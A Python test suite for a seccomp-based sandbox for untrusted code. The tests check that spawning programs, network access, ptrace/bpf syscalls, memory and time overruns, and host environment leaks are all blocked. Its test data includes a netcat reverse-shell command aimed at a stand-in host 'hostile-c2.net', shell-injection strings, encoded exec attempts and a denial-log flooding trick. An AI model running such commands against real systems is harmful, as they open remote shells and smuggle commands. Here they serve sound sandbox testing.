# SPDX-License-Identifier: MIT
"""VAREK's regression cases and both versions of its API, written anew for cordon.varek."""
import inspect
import os
import subprocess
import sys
import time
from unittest import mock

from cordon import varek
from support import BINARY, TIER
from varekcase import PYTHON, Case

BPF = {"x86_64": 321, "aarch64": 280}[os.uname().machine]


class Names(Case):
    def test_signatures(self):
        """names, fields, defaults"""
        def fields(cls):
            return list(inspect.signature(cls).parameters.items())
        self.assertEqual([n for n, _ in fields(varek.ExecutionPayload)], ["interpreter_path", "code", "argv_extra", "stdin"])
        self.assertEqual([(n, p.default) for n, p in fields(varek.ResourceLimits)],
                         [("memory_mb", 512), ("cpu_quota_pct", 50), ("pids_max", 64), ("wall_clock_timeout_s", 30.0)])
        self.assertEqual([n for n, _ in fields(varek.ExecutionPolicy)],
                         ["binary_allowlist", "syscall_allowlist", "syscall_killlist", "allow_network", "resources"])
        self.assertEqual([n for n, _ in fields(varek.ExecutionOutcome)][:7],
                         ["exit_code", "stdout", "stderr", "timed_out", "killed_by_signal", "wall_clock_s", "violation"])
        old = varek.ExecutionOutcome(0, b"", b"", False, None, 0.1)
        self.assertEqual((old.violation, old.tier, old.layers), (None, "", ()))
        for cls in (varek.ExecutionPayload, varek.ResourceLimits, varek.ExecutionPolicy):
            self.assertTrue(cls.__dataclass_params__.frozen)
        self.assertTrue(issubclass(varek.IsolationError, RuntimeError))
        self.assertTrue(issubclass(varek.SeccompBpfBackend, varek.IsolationBackend))
        with self.assertRaises(TypeError):
            varek.IsolationBackend()
        self.assertEqual(varek.SeccompBpfBackend().name(), "seccomp_bpf")

    def test_policy(self):
        """the default policy works; one that is stricter than the box is refused"""
        p = varek.default_python_policy()
        self.assertEqual((p.binary_allowlist, p.allow_network, p.resources), (frozenset({sys.executable}), False, varek.ResourceLimits()))
        self.assertIn("openat", p.syscall_allowlist)
        self.assertNotIn("socket", p.syscall_allowlist)
        self.assertIn("socket", varek.default_python_policy(allow_network=True).syscall_allowlist)
        self.assertIn("ptrace", p.syscall_killlist)
        payload = varek.ExecutionPayload(PYTHON, "print(1)")
        p = self.policy()
        for allow, kill in ((p.syscall_allowlist - {"openat"}, p.syscall_killlist),
                            (p.syscall_allowlist, p.syscall_killlist | {"getpid"})):
            with self.assertRaisesRegex(varek.IsolationError, "openat|getpid"):
                self.backend.execute(payload, varek.ExecutionPolicy(p.binary_allowlist, allow, kill))
        wide = varek.ExecutionPolicy(p.binary_allowlist, p.syscall_allowlist | {"ptrace"}, frozenset())
        self.assertEqual(self.backend.execute(payload, wide).stdout, b"1\n")


class Regression(Case):
    def test_01_subprocess(self):
        """code cannot start a program"""
        o = self.run_code(f"import subprocess\nfor w in (['/bin/touch', {self.canary!r}], ['/bin/sh', '-c', 'echo >{self.canary}']):\n"
                          " try: subprocess.run(w); print('ran')\n except OSError as e: print(type(e).__name__)")
        self.assertNotIn(b"ran", o.stdout)
        self.no_canary()
        self.assertIn("execve", [d.call for d in o.denials])

    def test_02_encoded(self):
        """nor from encoded code"""
        o = self.run_code("import base64, subprocess\nsubprocess.run([base64.b64decode('L2Jpbi90b3VjaA==').decode(), %r])" % self.canary)
        self.assertNotEqual(o.exit_code, 0)
        self.no_canary()

    def test_03_renamed(self):
        """nor a copy with another name"""
        o = self.run_code("import os, shutil\nshutil.copy('/usr/bin/python3', '/tmp/x')\nos.chmod('/tmp/x', 0o755)\n"
                          "try: os.execv('/tmp/x', ['x', '-c', 'print(\"ran\")'])\nexcept OSError as e: print('no')")
        self.assertEqual(o.stdout, b"no\n", o.stderr)

    def test_04_execv(self):
        """nor with os.execv"""
        self.says("import os\ntry: os.execv('/bin/sh', ['sh'])\nexcept PermissionError: print('EPERM')", "EPERM\n")

    def test_04_every_way(self):
        """no way to start a program works, and the outcome says so even if the code exits with 0"""
        rows = {f"os.system('touch {self.canary}')": 0, f"os.popen('touch {self.canary}').read()": 1,
                f"os.execlp('touch', 'touch', {self.canary!r})": 1, f"os.posix_spawn('/bin/touch', ['touch', {self.canary!r}], {{}})": 1,
                f"os.posix_spawnp('touch', ['touch', {self.canary!r}], {{}})": 1, f"os.spawnv(os.P_WAIT, '/bin/touch', ['touch', {self.canary!r}])": 0,
                f"subprocess.call(['touch', {self.canary!r}])": 1, f"subprocess.getoutput('touch {self.canary}')": 1,
                f"ctypes.CDLL(None).system(b'touch {self.canary}')": 0,
                f"os.fork() or os._exit(os.system('touch {self.canary}') and 0); os.wait()": 0}
        for words, status in rows.items():
            o = self.run_code("import ctypes, os, subprocess\n" + words)
            self.assertEqual((o.exit_code, o.violation), (status, "execve_denied"), (words, o.stderr[-300:]))
            self.assertTrue(any(d.call == "execve" for d in o.denials), words)
            self.no_canary()
        o = self.run_code("import os\nfor i in range(130):\n try: os.execv(f'/x{i}', ['x'])\n except OSError: pass")
        self.assertEqual(o.violation, "execve_denied")
        hidden = "import ctypes, os\nfor i in range(100, 300): ctypes.CDLL(None).socket(i, 1, 0)\nos.system('id')"
        self.assertEqual(self.run_code(hidden).violation, "denials_cut")

    def test_05_network(self):
        """code cannot reach a host"""
        import socket
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            s.listen()
            s.settimeout(0.2)
            o = self.run_code(f"import socket, sys\ntry: socket.create_connection(('127.0.0.1', {s.getsockname()[1]}), 3)\nexcept OSError: sys.exit(42)")
            self.assertEqual(o.exit_code, 42)
            with self.assertRaises(OSError):
                s.accept()

    def test_06_ptrace(self):
        """a system call on the kill list kills"""
        o = self.run_code("import ctypes\nprint('on', flush=True)\nctypes.CDLL(None).ptrace(0, 0, 0, 0)\nprint('off')")
        self.assertEqual((o.exit_code, o.killed_by_signal, o.violation, o.stdout), (-31, 31, "seccomp_killlist_triggered", b"on\n"))

    def test_07_bpf(self):
        """bpf, by its number, kills"""
        o = self.run_code(f"import ctypes\nctypes.CDLL(None).syscall({BPF}, 0, 0, 0)\nprint('off')")
        self.assertEqual((o.killed_by_signal, o.violation, o.stdout), (31, "seccomp_killlist_triggered", b""))

    def test_08_memory(self):
        """the memory limit holds"""
        o = self.run_code("x = bytearray(512 << 20)\nx[::4096] = b'x' * len(x[::4096])\nprint('all')", memory_mb=64)
        self.assertNotIn(b"all", o.stdout)
        self.assertTrue(o.violation == "sigkill_likely_cgroup_limit" and o.killed_by_signal == 9 or b"MemoryError" in o.stderr, o)

    def test_09_clock(self):
        """the time limit holds"""
        begun = time.monotonic()
        o = self.run_code("import time\ntime.sleep(30)", wall_clock_timeout_s=1.0)
        self.assertEqual((o.timed_out, o.violation, o.exit_code, o.killed_by_signal), (True, "wall_clock_timeout", -9, 9))
        self.assertLess(time.monotonic() - begun, 10)
        self.assertGreaterEqual(o.wall_clock_s, 1.0)

    def test_10_no_backend(self):
        """without a backend nothing runs, with the error of both versions"""
        for words in ("^No backend configured. ", "no isolation backend configured; "):
            with self.assertRaisesRegex(varek.IsolationError, words):
                varek.execute_untrusted(varek.ExecutionPayload(PYTHON, "print(1)"))
        self.assertIs(varek.get_active_backend(), None)

    def test_11_allowlist(self):
        """an interpreter must be listed, absolute, a file and a Python"""
        for path, allowed, words in (("/bin/sh", PYTHON, "not in policy.binary_allowlist"), ("python3", PYTHON, "interpreter_path must be absolute"),
                                     ("/nothing/python3", "/nothing/python3", "not a file"), ("/bin/sh", "/bin/sh", "not a Python")):
            with self.assertRaisesRegex(varek.IsolationError, words):
                self.backend.execute(varek.ExecutionPayload(path, "print(1)"), varek.default_python_policy(frozenset({allowed})))

    def test_13_telemetry(self):
        """callbacks of both versions get the events of the parent and stop nothing; their errors are ignored"""
        two, one = [], []

        def broken(event, args):
            raise ZeroDivisionError
        varek.subscribe_telemetry(lambda event, args: two.append((event, args)))
        varek.subscribe_telemetry(one.append)
        varek.subscribe_telemetry(broken)
        self.assertEqual(subprocess.run(["/bin/true"]).returncode, 0)
        self.assertIn("subprocess.Popen", [e for e, _ in two])
        self.assertIn("subprocess.Popen", [d["event"] for d in one])
        self.assertEqual(set(one[0]), {"ts", "event", "args_repr"})

    def test_14_benign(self):
        """ordinary code works"""
        o = self.says("import sys\nprint('hello', sys.argv[1:], sys.stdin.read())", "hello ['a', 'b'] data\n", argv=("a", "b"), stdin=b"data")
        self.assertEqual((o.stderr, o.timed_out, o.killed_by_signal, o.violation, o.tier), (b"", False, None, None, TIER))
        self.assertIn("seccomp", o.layers)
        self.assertTrue(o.audit_id)

    def test_15_platforms(self):
        """configure and execute refuse another system than Linux"""
        for name in ("darwin", "win32", "freebsd13"):
            with mock.patch.object(sys, "platform", name):
                with self.assertRaisesRegex(varek.IsolationError, f"SeccompBpfBackend unavailable: unsupported platform: {name}. See docs/development.md"):
                    varek.configure_backend(self.backend)
                with self.assertRaisesRegex(varek.IsolationError, f"unsupported platform: {name}"):
                    self.backend.execute(varek.ExecutionPayload(PYTHON, "print(1)"), self.policy())
        self.assertIs(self.backend.is_available(), None)

    def test_20_unavailable(self):
        """a backend that is not available is refused, and the old one stays"""
        class Off(varek.IsolationBackend):
            def name(self): return "off"
            def is_available(self): return "switched off"
            def execute(self, payload, policy): raise AssertionError
        varek.configure_backend(self.backend)
        with self.assertRaisesRegex(varek.IsolationError, "^Off unavailable: switched off. See docs/development.md"):
            varek.configure_backend(Off())
        self.assertIs(varek.get_active_backend(), self.backend)

    def test_21_truth(self):
        """is_available tries the box: it finds a missing program and a missing layer"""
        self.assertIn("/nothing", varek.SeccompBpfBackend(binary="/nothing/cordon").is_available())
        binary = BINARY
        if os.getuid() == 0:
            binary = self.script("exec setpriv --reuid 61000 --regid 61000 --clear-groups 'CORDON' \"$@\"")
        told = varek.SeccompBpfBackend(binary=binary, tier="full").is_available()
        self.assertIn("cgroup", told)
        self.assertIs(self.backend.is_available(), None)
        self.assertTrue(self.backend.capabilities()["seccomp"])

    def test_22_environment(self):
        """no variable of the host is in the box"""
        with mock.patch.dict(os.environ, {"SECRET_TOKEN": "s3cret"}):
            self.says("import os\nprint('SECRET_TOKEN' in os.environ, [k for k in os.environ if 's3cret' in os.environ[k]])", "False []\n")


class Seed(Case):
    def test_example(self):
        """the example of VAREK with one import changed is stopped, with its own error"""
        example = '''
import subprocess
import cordon.varek as varek_warden

varek_warden.enforce_strict_mode()

def simulate_llama_code_interpreter(generated_code):
    try:
        subprocess.run(["python", "-c", generated_code], shell=False, check=True)
    except Exception as e:
        print(f"\\n[VAREK KINETIC INTERCEPT] Code Interpreter Breach Prevented: {e}")
        print("[*] Host machine integrity maintained.\\n")

if __name__ == "__main__":
    %s
    simulate_llama_code_interpreter(CODE)
'''
        lower = f"from cordon import Cordon, _varek_strict; _varek_strict.arm(Cordon(tier={TIER!r}))"
        rows = {"import os\nos.system('nc -e /bin/bash hostile-c2.net 4444')": ["Breach Prevented", "CORDON-2026-0001"],
                f"import os, sys\nos.system('touch ' + {self.canary!r})\nopen({self.canary!r}, 'w')": ["Breach Prevented", "non-zero exit status 1"],
                f"import os\nos.system('touch ' + {self.canary!r})": ["Breach Prevented", "execve_denied (/bin/sh)"],
                "print('fine', 6 * 7)": ["fine 42"]}
        for code, words in rows.items():
            done = subprocess.run([sys.executable, "-B", "-"], input=example.replace("CODE", repr(code)) % lower, text=True,
                                  stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60,
                                  env=dict(os.environ, PYTHONPATH=os.pathsep.join(sys.path), CORDON_BINARY=BINARY, XDG_STATE_HOME=self.path("state")))
            for word in words:
                self.assertIn(word, done.stdout)
            self.no_canary()

    def strict(self, code):
        """The output of a program in strict mode."""
        lower = ("import os, subprocess, sys\nfrom cordon import Cordon, varek, _varek_strict\nvarek.enforce_strict_mode()\n"
                 f"_varek_strict.arm(Cordon({BINARY!r}, tier={TIER!r}))\nP = sys.executable\nU = 'import os; print(os.getpid(), flush=True)'\n")
        done = subprocess.run([sys.executable, "-B", "-"], input=lower + code, text=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=120,
                              env=dict(os.environ, PYTHONPATH=os.pathsep.join(sys.path), XDG_STATE_HOME=self.path("state"), NOT_INSIDE="x"))
        return done.stdout

    def test_strict(self):
        """another command than Python with -c runs on the host as before"""
        said = self.strict("print(subprocess.run(['/bin/echo', 'host'], capture_output=True, text=True).stdout, end='')\n"
                           "print(subprocess.check_output([sys.executable, '-c', 'import os; print(os.getpid())'], text=True), end='')\n"
                           "print(subprocess.run([sys.executable, '-I', '-c', 'import sys; print(sys.stdin.read(), sys.argv[1:]); sys.exit(3)', 'a'], input='in', text=True, stdout=subprocess.PIPE))\n"
                           "try: subprocess.run([sys.executable, '-c', 'while True: pass'], timeout=.5)\n"
                           "except subprocess.TimeoutExpired as e: print('late', flush=True)\n"
                           "subprocess.run('echo host | cat; echo $((1 + 1))', shell=True)\nos.system('echo host && true')\n"
                           "open('x.py', 'w').write('print(1)')\nsubprocess.call([P, 'x.py', '-c', 'y'])\n".replace("x.py", self.path("x.py")))
        lines = said.splitlines()
        self.assertEqual((lines[:2], lines[3:]), (["host", "2"], ["late", "host", "2", "host", "1"]), said)
        self.assertIn("returncode=3, stdout=\"in ['a']\\n\"", lines[2])

    def test_strict_ways(self):
        """Python with -c runs in the box as process 2, however it is started"""
        for way in ("subprocess.run([P, '-c', U])", "subprocess.call([P, '-Ic', U])", "subprocess.check_call(['env', 'python3', '-X', 'dev', '-c' + U])",
                    "subprocess.Popen(['python', '-B', '-c', U]).wait()", "subprocess.Popen(['x', '-c', U], executable=P).wait()",
                    "print(subprocess.check_output([P, '-c', U], stdin=subprocess.DEVNULL).decode(), end='')", "print(subprocess.getoutput(f'{P} -c \"{U}\"'))",
                    "subprocess.run(f\"{P} -c '{U}'\", shell=True)", "os.system(f'X=1 python3 -X dev -c \"{U}\"')", "subprocess.call([P, '-c', U], env={})", "print(os.popen(f'{P} -c \"{U}\"').read(), end='')",
                    "os.spawnv(os.P_WAIT, P, ['p', '-c', U])", "os.spawnlp(os.P_WAIT, 'python3', 'p', '-c', U)", "os.waitpid(os.spawnve(os.P_NOWAIT, P, ['p', '-c', U], {}), 0)",
                    "os.execv(P, ['p', '-c', U])", "os.execlp('python3', 'p', '-c', U)", "os.execle(P, 'p', '-c', U, {})",
                    "os.waitpid(os.posix_spawn(P, ['p', '-c', U], {}), 0)", "os.waitpid(os.posix_spawnp('python3', ['p', '-c', U], os.environ), 0)",
                    "import asyncio\nasync def f(): await (await asyncio.create_subprocess_exec(P, '-c', U)).wait()\nasyncio.run(f())"):
            with self.subTest(way):
                self.assertEqual(self.strict(way), "2\n")

    def test_strict_process(self):
        """such a process has streams, input and status, and can be ended"""
        said = self.strict("p = subprocess.Popen([P, '-uc', 'import sys\\nfor l in sys.stdin: print(l.strip() * 2)\\nsys.exit(5)'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)\n"
                           "print(p.communicate('ab\\ncd\\n')[0].split(), p.returncode, p.args[0] == P)\n"
                           "p = subprocess.Popen([P, '-c', 'print(1, flush=True)\\nwhile True: pass'], stdout=subprocess.PIPE)\n"
                           "print(p.stdout.read(2)); p.kill(); p.wait(); print(len(os.listdir('/proc/self/fd')))\n"
                           "with open('OUT', 'wb') as f: subprocess.run([P, '-c', 'print(7)'], stdout=f)\nprint(open('OUT').read(), os.system(f'{P} -c \"raise SystemExit(6)\"') >> 8)\n".replace("OUT", self.path("out")))
        self.assertEqual(said, "['abab', 'cdcd'] 5 True\nb'1\\n'\n5\n7\n 6\n")

    def test_strict_signal(self):
        """subprocess reports signals and exit statuses of the box, also 128 and more"""
        ends = {"os.kill(os.getpid(), 15)": -15, "os.abort()": -6, "ctypes.CDLL(None).ptrace(0, 0, 0, 0)": -31, "sys.exit(143)": 143}
        for words, code in ends.items():
            said = self.strict(f"C = 'import ctypes, os, sys; {words}'\nprint(subprocess.run([P, '-c', C]).returncode)\n"
                               "p = subprocess.Popen([P, '-c', C]); print(p.wait(), p.returncode)\nprint(subprocess.call([P, '-c', C]))\n"
                               "print(os.spawnv(os.P_WAIT, P, ['p', '-c', C]))\nprint(os.waitstatus_to_exitcode(os.system(f'{P} -c \"{C}\"')))\n"
                               "print(os.waitstatus_to_exitcode(os.waitpid(os.posix_spawn(P, ['p', '-c', C], {}), 0)[1]))\n"
                               "import asyncio\nasync def f(): return await (await asyncio.create_subprocess_exec(P, '-c', C)).wait()\nprint(asyncio.run(f()))\n")
            self.assertEqual([w for s in said.splitlines() if not s.startswith("cordon: ") for w in s.split()], [str(code)] * 8, said)

    def test_strict_starters(self):
        """Python behind a program that only starts others does not run; what other programs start is only reported"""
        code = f"open({self.canary!r}, 'w')"
        for words in (["timeout", "5", "python3"], ["env", "-i", "python3"], ["/usr/bin/env", "X=1", "nice", "-n", "1", "python3", "-I"], ["setsid", "python"],
                      ["env", "-S", "python3", "python3"]):
            said = self.strict(f"W = {words!r} + ['-c', {code!r}]\nfor run in (subprocess.run, subprocess.call, lambda w: os.spawnvp(os.P_WAIT, w[0], w), lambda w: os.system(__import__('shlex').join(w))):\n"
                               " try: print('ran', run(W))\n except varek.KineticIntercept as e: print('stopped', flush=True)\n")
            self.assertEqual(sorted(said.split("\n")), ["", "ran 127", "stopped", "stopped", "stopped"], said)
            self.no_canary()
        said = self.strict(f"seen = []\nvarek.subscribe_telemetry(lambda e, a: seen.append((e, str(a))))\nsubprocess.run(['sh', '-c', \"python3 -c 'print(5)'\"])\n"
                           "print(any(e == 'subprocess.Popen' and 'print(5)' in a for e, a in seen), subprocess.run(['timeout', '5', 'echo', 'host']).returncode)\n")
        self.assertEqual(sorted(said.split()), ["0", "5", "True", "host"], said)

    def test_strict_lines(self):
        """a line with a meaning for a shell does not run, because code could be a part of it"""
        for line in ("python3 -c 'print(1)'; touch CANARY", "python3 -c \"$(touch CANARY)\"", "python3 -c `touch CANARY`", "cd / && python3 -I -c 'print(1)'",
                     "X=$1 python3 -X dev -c 'print(1)'", "python3 -c 'unfinished"):
            said = self.strict(f"for run in (os.system, os.popen, subprocess.getoutput):\n try: print(run({line.replace('CANARY', self.canary)!r}))\n"
                               " except varek.KineticIntercept as e: print('stopped', flush=True)\n")
            self.assertEqual(said, "stopped\n" * 3, line)
            self.no_canary()

    def test_strict_told(self):
        """code that the host runs itself is reported, as in VAREK, and goes on"""
        said = self.strict("seen = []\nvarek.subscribe_telemetry(lambda e, a: seen.append(e))\nprint(eval('1 + 1')); exec('x = 3'); print(x); os.system('true')\n"
                           "print({'compile', 'exec', 'os.system'} <= set(seen))\n")
        self.assertEqual(said, "2\n3\nTrue\n")
